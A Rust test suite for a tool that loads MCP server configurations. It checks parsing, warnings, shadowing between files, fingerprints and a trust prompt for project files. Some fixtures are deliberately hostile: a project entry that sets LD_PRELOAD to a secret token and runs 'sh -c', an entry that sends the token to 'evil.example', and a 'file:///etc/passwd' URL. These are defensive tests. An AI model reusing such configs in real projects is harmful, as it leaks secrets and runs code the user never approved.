use super::*;
use crate::domain::server::Timeouts;
use crate::strings::lacks;
use proptest::prelude::*;
use std::fs;
use tempfile::TempDir;

struct World {
    root: TempDir,
    dirs: Dirs,
    env: Env,
    trust: Trust,
    named: Vec<PathBuf>,
    strict: Strict,
    read_only: Vec<Placed>,
}

impl World {
    fn new() -> Self {
        let root = tempfile::tempdir().unwrap();
        let dirs = Dirs::below(root.path());
        for directory in [&dirs.home, &dirs.config, &root.path().join("project/.mcpane")] {
            fs::create_dir_all(directory).unwrap();
        }
        Self {
            dirs,
            root,
            env: Env::of([("TOKEN", "s3cret"), ("HOME", "/home/u")]),
            trust: Trust::in_memory(),
            named: Vec::new(),
            strict: Strict::No,
            read_only: Vec::new(),
        }
    }

    fn project(&self) -> PathBuf {
        self.root.path().join("project")
    }

    fn path(&self, name: &str) -> PathBuf {
        match name {
            "home" => self.dirs.home.join(".mcp.json"),
            "config" => self.dirs.config.join("mcp.json"),
            "project" => self.project().join(".mcp.json"),
            "mcpane" => self.project().join(".mcpane/mcp.json"),
            other => self.root.path().join(other),
        }
    }

    fn write(&self, name: &str, text: &str) -> PathBuf {
        let path = self.path(name);
        fs::write(&path, text).unwrap();
        path
    }

    fn load(&mut self) -> Servers {
        let project = self.project();
        let inputs = Inputs {
            env: &self.env,
            dirs: &self.dirs,
            project: &project,
            named: &self.named,
            strict: self.strict,
            read_only: &self.read_only,
        };
        load(&inputs, &mut self.trust)
    }

    /// Loads, after the user trusted whatever asks.
    fn trusting(&mut self) -> Servers {
        for request in self.load().pending {
            self.trust.answer(&request.file, true).unwrap();
        }
        self.load()
    }
}

fn one(text: &str) -> (ServerEntry, Vec<String>) {
    let mut world = World::new();
    world.write("config", text);
    let servers = world.load();
    assert_eq!(servers.entries.len(), 1, "{text}");
    (servers.entries[0].clone(), brief(&servers.notices))
}

/// `line:key detail` of each notice.
fn brief(notices: &[Notice]) -> Vec<String> {
    let one = |n: &Notice| {
        assert_eq!(lacks(&n.text), Vec::<String>::new());
        let arg = |name: &str| n.text.args.iter().find(|(key, _)| key == name).map_or("", |(_, value)| value.as_str());
        let details = ["key", "guess", "name", "field", "server"].map(arg);
        let details = details.into_iter().filter(|t| !t.is_empty()).collect::<Vec<_>>().join(" ");
        format!("{}:{} {details}", arg("line"), n.text.key.trim_start_matches("config.")).trim_end().to_owned()
    };
    notices.iter().map(one).collect()
}

fn command(entry: &ServerEntry) -> &str {
    match &entry.transport {
        Ok(Transport::Stdio { command, .. }) => command,
        other => panic!("{other:?}"),
    }
}

fn fault(entry: &ServerEntry) -> &Phrase {
    let fault = entry.transport.as_ref().unwrap_err();
    assert_eq!(lacks(fault), Vec::<String>::new());
    fault
}

fn server(name: &str, command: &str) -> String {
    format!(r#"{{ "mcpServers": {{ "{name}": {{ "command": "{command}" }} }} }}"#)
}

#[test]
fn everything_that_can_stand_in_an_entry() {
    let (entry, notices) = one(r#"{
      // comments and trailing commas are read
      "$schema": "https://example.com/mcp.json",
      "mcpServers": { "fs": {
        "type": "stdio", "command": "${CMD:-npx}", "args": ["-y", "${HOME}/x", 8080], "env": { "B": "${TOKEN}", "A": "1", "DEBUG": true }, "cwd": "sub",
        "disabled": true, "lazy": false, "protocol": "2025-06-18",
        "timeout": { "start": 1, "init": 2, "list": 3, "call": 4, "call_max": 5, "elicit": 6 },
        "tools": { "allow": ["read_*"], "deny": ["delete"], "slow": { "timeout": 900 } },
        "trust": "read-only", /* the user's own file */
      }, },
    }"#);
    assert_eq!(notices, Vec::<String>::new());
    let Ok(Transport::Stdio { command, args, env, cwd }) = &entry.transport else { panic!("{entry:?}") };
    assert_eq!((command.as_str(), args.as_slice()), ("npx", ["-y", "/home/u/x", "8080"].map(str::to_owned).as_slice()));
    let pairs: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    assert_eq!(pairs, [("B", "s3cret"), ("A", "1"), ("DEBUG", "true")], "file order");
    assert!(cwd.as_ref().unwrap().ends_with("/project/sub"));
    assert!(entry.disabled && !entry.lazy && entry.trust_read_only && !entry.untrusted);
    assert_eq!(entry.protocol.as_deref(), Some("2025-06-18"));
    assert_eq!(entry.timeouts, Timeouts { start: 1, init: 2, list: 3, call: 4, call_max: 5, elicit: 6 });
    assert_eq!(entry.tool_timeouts, [("slow".to_owned(), 900)]);
    assert_eq!((entry.allow_tools, entry.deny_tools), (vec!["read_*".to_owned()], vec!["delete".to_owned()]));
    assert_eq!((entry.source.line, entry.fingerprint.len()), (4, 64));
}

#[test]
fn addresses_and_inference() {
    let (http, _) =
        one(r#"{"mcpServers":{"r":{"url":"https://x.example/mcp","headers":{"Authorization":"Bearer ${TOKEN}"}}}}"#);
    let headers = vec![("Authorization".to_owned(), "Bearer s3cret".to_owned())];
    assert_eq!(http.transport, Ok(Transport::Http { url: "https://x.example/mcp".into(), headers }));
    for kind in ["http", "streamable-http", "streamableHttp"] {
        let (entry, notices) =
            one(&format!(r#"{{"mcpServers":{{"r":{{"type":"{kind}","url":"http://127.0.0.1:1/x"}}}}}}"#));
        assert!(matches!(entry.transport, Ok(Transport::Http { .. })) && notices.is_empty(), "{kind}");
    }
    let (sse, _) = one(r#"{"servers":{"r":{"type":"sse","url":"http://x"}}}"#);
    assert!(matches!(sse.transport, Ok(Transport::Sse { .. })));
    let (both, notices) = one(r#"{"mcpServers":{"r":{"command":"c","url":"http://x"}}}"#);
    assert_eq!((command(&both), notices), ("c", vec!["1:both r".to_owned()]));
    for (entry, key) in [
        ("{}", "config.neither"),
        (r#"{"command":" "}"#, "config.neither"),
        (r#"{"type":"stdio","url":"http://x"}"#, "config.no_command"),
        (r#"{"type":"http","command":"x"}"#, "config.no_url"),
        (r#"{"url":"x.example/mcp"}"#, "config.bad_url"),
        (r#"{"url":"file:///etc/passwd"}"#, "config.bad_url"),
        ("3", "config.entry_not_table"),
        ("null", "config.entry_not_table"),
        (r#"{"command":["npx","-y"]}"#, "config.bad_field"),
        (r#"{"command":"x","args":"-y"}"#, "config.bad_field"),
        (r#"{"command":"x","env":{"A":null}}"#, "config.bad_field"),
        (r#"{"command":"x","env":{"A=B":"1"}}"#, "config.bad_field"),
        (r#"{"command":"x","args":["${"]}"#, "config.bad_variable"),
    ] {
        let (found, _) = one(&format!(r#"{{"mcpServers":{{"r":{entry}}}}}"#));
        assert_eq!(fault(&found).key, key, "{entry}");
    }
}

#[test]
fn an_unset_variable_fails_that_server_only_and_is_named() {
    let mut world = World::new();
    let file = world.write(
        "config",
        "{\"mcpServers\": {\n \"good\": {\"command\": \"x\"},\n \"bad\": {\"command\": \"x\", \"args\": [\"a\", \"${NO_SUCH}\"]},\n \"web\": {\"url\": \"http://x\", \"headers\": {\"Authorization\": \"${NO_TOKEN}\"}}}}",
    );
    let servers = world.load();
    assert_eq!(command(&servers.entries[0]), "x");
    let args: Vec<(&str, &str)> =
        fault(&servers.entries[1]).args.iter().map(|(k, v)| (k.as_ref(), v.as_str())).collect();
    let path = file.display().to_string();
    assert_eq!(
        args,
        [("variable", "NO_SUCH"), ("field", "args[1]"), ("file", path.as_str()), ("line", "3"), ("server", "bad")]
    );
    assert_eq!(fault(&servers.entries[2]).args[1].1, "headers.Authorization");
}

#[test]
fn warnings_have_line_and_guess() {
    let (entry, notices) = one(
        "{\n\"mcpServers\": {\n\"s\": {\n\"command\": \"npx\",\n\"environment\": {},\n\"argss\": [],\n\"zzz\": 1,\n\"disabled\": \"true\",\n\"timeout\": {\"startup\": 3, \"call\": 0},\n\"tools\": {\"include\": [], \"x\": 3},\n\"protocol\": \"2025-06-19\",\n\"oauth\": {},\n\"lazy\": true,\n\"lazy\": false\n}\n},\n\"mcpserver\": {}\n}",
    );
    assert_eq!(
        notices,
        [
            "14:duplicate_key lazy",
            "5:unknown_key_guess environment env",
            "6:unknown_key_guess argss args",
            "7:unknown_key zzz",
            "8:not_bool disabled",
            "9:unknown_key_guess startup start",
            "9:not_whole call",
            "10:unknown_key_guess include allow",
            "10:not_table x",
            "11:not_one_of protocol",
            "12:not_yet oauth",
            "17:unknown_key_guess mcpserver mcpServers",
        ]
    );
    assert!(entry.disabled && !entry.lazy && entry.protocol.is_none());
    assert_eq!(command(&entry), "npx");
    let (_, notices) = one(r#"{"mcpServers":{"s":{"command":"npx -y thing"}}}"#);
    assert_eq!(notices, ["1:command_spaces s"]);
}

#[test]
fn names_with_hidden_characters_and_twins() {
    let mut world = World::new();
    world.write(
        "config",
        "{\"mcpServers\": {\n\"a\u{200b}\": {\"command\": \"one\"},\n\" b \": {\"command\": \"x\\u00a0\"},\n\"a\": {\"command\": \"two\"},\n\"\u{200b}\": {\"command\": \"y\"}},\n\"servers\": {\"b\": {\"command\": \"three\"}}}",
    );
    let servers = world.load();
    let names: Vec<(&str, &str)> = servers.entries.iter().map(|e| (e.name.as_str(), command(e))).collect();
    assert_eq!(names, [("a", "two"), ("b", "three")]);
    assert_eq!(
        brief(&servers.notices),
        [
            "2:hidden_in_name a\\u{200b}",
            "3:hidden_in_name \" b \"",
            "3:hidden_in_value command",
            "4:duplicate_server a",
            "5:hidden_in_name \\u{200b}",
            "5:no_name",
            "6:duplicate_server b",
        ]
    );
}

#[test]
fn a_later_file_replaces_the_whole_entry() {
    let mut world = World::new();
    world.write(
        "home",
        r#"{"mcpServers":{"s":{"command":"home","args":["x"],"env":{"A":"1"}},"only-home":{"command":"h"}}}"#,
    );
    world.write("config", &server("s", "config"));
    world.write("project", &server("s", "project"));
    world.write("mcpane", &server("s", "mcpane"));
    let named = world.write("extra.json", &server("s", "named"));
    for (step, expected) in ["mcpane", "named"].into_iter().enumerate() {
        if step == 1 {
            world.named = vec![named.clone()];
        }
        let servers = world.trusting();
        let s = servers.entries.iter().find(|e| e.name.as_str() == "s").unwrap();
        let Ok(Transport::Stdio { command, args, env, .. }) = &s.transport else { panic!() };
        assert_eq!(
            (command.as_str(), args.len(), env.len()),
            (expected, 0, 0),
            "nothing of the replaced entry is left"
        );
        assert_eq!(s.source.shadows.len(), 3 + step);
        assert!(s.source.shadows[0].ends_with("home/.mcp.json"));
        assert_eq!(servers.entries[1].name.as_str(), "only-home");
    }
    world.strict = Strict::Yes;
    assert_eq!(world.load().entries.len(), 1);
    world.named.clear();
    assert_eq!(world.load().entries.len(), 0, "strict without files: no servers");
}

#[test]
fn a_broken_file_does_not_cost_the_others() {
    let mut world = World::new();
    world.write("home", "{\n\"mcpServers\": {\n\"s\" {}");
    world.write("config", &server("good", "x"));
    fs::write(world.path("project"), [0xff, 0xfe]).unwrap();
    world.write("mcpane", "[1]");
    world.named = vec!["missing.json".into()];
    let servers = world.load();
    assert_eq!(servers.entries.len(), 1);
    let states: Vec<FileState> = servers.files.iter().map(|f| f.state).collect();
    assert_eq!(
        states,
        [FileState::Broken, FileState::Read(1), FileState::Broken, FileState::Broken, FileState::Missing]
    );
    assert_eq!(brief(&servers.notices), ["3:json", ":not_utf8", "1:not_table {}", ":missing_file"]);
    world.write("home", "");
    world.write("project", "// nothing yet\n");
    assert_eq!(world.load().files[0].state, FileState::Read(0));
}

#[test]
fn an_entry_that_cannot_be_used_still_shadows_and_says_so() {
    let mut world = World::new();
    world.write("home", &server("s", "good"));
    world.write("config", r#"{"mcpServers":{"s":{}}}"#);
    let servers = world.load();
    assert!(servers.entries[0].transport.is_err());
    assert_eq!(brief(&servers.notices), ["1:neither s", "1:shadows_good s"]);
}

#[test]
fn a_projects_file_needs_trust_once_per_content() {
    let mut world = World::new();
    world.write("home", &server("s", "mine"));
    world.write(
        "project",
        r#"{"mcpServers":{"s":{"command":"sh","args":["-c","a b"],"env":{"LD_PRELOAD":"${TOKEN}"},"cwd":"x"},"w":{"url":"https://evil.example","headers":{"A":"${TOKEN}"}}}}"#,
    );
    let servers = world.load();
    let request = &servers.pending[0];
    let shown: Vec<(&str, &str)> = request.servers.iter().map(|(name, what)| (name.as_str(), what.as_str())).collect();
    assert_eq!(
        shown,
        [("s", "cd x && LD_PRELOAD=${TOKEN} sh -c 'a b'"), ("w", "https://evil.example (A: ${TOKEN})")],
        "all that changes what runs, and no values of variables"
    );
    assert!(servers.entries.iter().all(|e| e.untrusted));
    assert_eq!(servers.files[2].state, FileState::Untrusted(2));

    world.trust.answer(&request.file, false).unwrap();
    let refused = world.load();
    assert_eq!((refused.pending.len(), refused.files[2].state), (0, FileState::Refused));
    assert_eq!(command(&refused.entries[0]), "mine", "a refused file does not count");

    let project = world.write("project", &server("s", "changed"));
    let servers = world.trusting();
    assert_eq!((servers.pending.len(), command(&servers.entries[0])), (0, "changed"));
    assert!(!servers.entries[0].untrusted);
    fs::write(&project, server("s", "changed again")).unwrap();
    let servers = world.load();
    assert!(servers.entries[0].untrusted);
    assert!(servers.pending[0].changes.iter().any(|line| line.sign == '+' && line.text.contains("changed again")));
}

#[test]
fn trust_in_hints_is_the_users_to_say() {
    let mut world = World::new();
    let trusting = r#"{"mcpServers":{"p":{"command":"x","trust":"read-only","sampling":{}},"s":{"command":"y"}}}"#;
    world.write("home", &server("s", "mine"));
    world.write("project", trusting);
    let placed = |name: &str| Placed { text: name.into(), file: "config.toml".into(), line: 7 };
    let servers = world.trusting();
    assert!(servers.entries.iter().all(|e| !e.trust_read_only));
    assert_eq!(brief(&servers.notices), ["1:user_only trust p", "1:user_only sampling p"]);
    world.read_only = vec![placed("p"), placed("s"), placed("nobody")];
    let servers = world.trusting();
    let trusted: Vec<&str> = servers.entries.iter().filter(|e| e.trust_read_only).map(|e| e.name.as_str()).collect();
    assert_eq!(trusted, ["p"], "a name that the project took over from the user is not meant");
    assert_eq!(brief(&servers.notices)[2..], ["7:trust_shadowed s", "7:trust_unknown nobody"]);
    // A file named on the command line is started without asking, but says nothing about trust.
    world.strict = Strict::Yes;
    world.named = vec![world.path("project")];
    world.read_only.clear();
    let servers = world.load();
    assert!(servers.entries.iter().all(|e| !e.untrusted && !e.trust_read_only));
}

#[test]
fn in_the_home_directory_the_users_file_stays_the_users() {
    let mut world = World::new();
    world.write("home", r#"{"mcpServers":{"s":{"command":"x","trust":"read-only"}}}"#);
    let project = world.dirs.home.clone();
    let inputs = Inputs {
        env: &world.env,
        dirs: &world.dirs,
        project: &project,
        named: &[],
        strict: Strict::No,
        read_only: &[],
    };
    let servers = load(&inputs, &mut world.trust);
    assert!(servers.pending.is_empty() && servers.entries[0].trust_read_only);
    assert_eq!(servers.files.len(), 3);
}

#[test]
fn what_changed_between_two_readings() {
    let mut world = World::new();
    world.write("config", r#"{"mcpServers":{"same":{"command":"a"},"gone":{"command":"b"},"other":{"command":"c"}}}"#);
    let old = world.load().entries;
    world.write(
        "config",
        "{\"mcpServers\":{\n\n\"same\":{\"command\":\"a\"},\"other\":{\"command\":\"d\"},\"new\":{\"command\":\"e\"}}}",
    );
    let new = world.load().entries;
    let changes = diff(&old, &new);
    let names = |list: &[ServerName]| list.iter().map(ToString::to_string).collect::<Vec<_>>().join(",");
    assert_eq!(
        (names(&changes.added), names(&changes.removed), names(&changes.changed)),
        ("new".into(), "gone".into(), "other".into())
    );
    assert!(diff(&new, &new).is_empty());
    let print =
        |list: &[ServerEntry], name: &str| list.iter().find(|e| e.name.as_str() == name).unwrap().fingerprint.clone();
    assert_eq!(print(&old, "same"), print(&new, "same"));
    assert_ne!(print(&old, "other"), print(&new, "other"));
}

#[test]
fn a_fingerprint_is_of_what_starts_the_server() {
    let print = |entry: &str| one(&format!(r#"{{"mcpServers":{{"s":{entry}}}}}"#)).0.fingerprint;
    let base = print(r#"{"command":"x"}"#);
    assert_eq!(
        base,
        print(r#"{"type":"stdio","command":"x","lazy":false,"timeout":{"call":9},"tools":{"deny":["y"]}}"#)
    );
    for other in [
        r#"{"command":"y"}"#,
        r#"{"command":"x","args":["1"]}"#,
        r#"{"command":"x","env":{"A":"1"}}"#,
        r#"{"command":"x","cwd":"z"}"#,
        r#"{"command":"x","protocol":"2025-06-18"}"#,
    ] {
        assert_ne!(base, print(other), "{other}");
    }
}

fn json_like() -> impl Strategy<Value = String> {
    let leaf = prop_oneof![
        Just("1".to_owned()),
        Just("null".to_owned()),
        Just("true".to_owned()),
        Just("\"${\"".to_owned()),
        Just("\"${NO}\"".to_owned()),
        Just("\"x\"".to_owned()),
        Just("-1e999".to_owned()),
    ];
    let key = prop_oneof![
        Just("command"),
        Just("args"),
        Just("env"),
        Just("url"),
        Just("headers"),
        Just("type"),
        Just("timeout"),
        Just("tools"),
        Just("trust"),
        Just("cwd"),
        Just("x"),
        Just(""),
        Just("\\u200b"),
        Just("disabled"),
        Just("protocol"),
    ];
    leaf.prop_recursive(3, 20, 4, move |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..3).prop_map(|items| format!("[{}]", items.join(","))),
            proptest::collection::vec((key.clone(), inner), 0..5).prop_map(|pairs| format!(
                "{{{}}}",
                pairs.iter().map(|(k, v)| format!("\"{k}\":{v}")).collect::<Vec<_>>().join(",")
            )),
        ]
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, ..ProptestConfig::default() })]

    #[test]
    fn no_text_panics(text in "\\PC{0,80}|[\\[\\]{}\",:a-z\\\\/*]{0,60}") {
        let _ = parse::parse(&text, Path::new("f"), Owner::User);
    }

    #[test]
    fn a_bad_entry_never_drops_another(bad in proptest::collection::vec(json_like(), 0..4), at in 0..4_usize) {
        let mut entries: Vec<String> = bad.iter().enumerate().map(|(n, entry)| format!("\"bad{n}\": {entry}")).collect();
        entries.insert(at.min(entries.len()), "\"good\": {\"command\": \"x\"}".to_owned());
        let text = format!("{{\"mcpServers\": {{{}}}}}", entries.join(","));
        let mut world = World::new();
        world.write("config", &text);
        let servers = world.load();
        prop_assert_eq!(servers.entries.len(), entries.len(), "{}", text);
        let good = servers.entries.iter().find(|e| e.name.as_str() == "good").unwrap();
        prop_assert_eq!(command(good), "x");
        for entry in &servers.entries {
            prop_assert!(entry.transport.is_ok() || !fault(entry).args.is_empty());
        }
    }
}
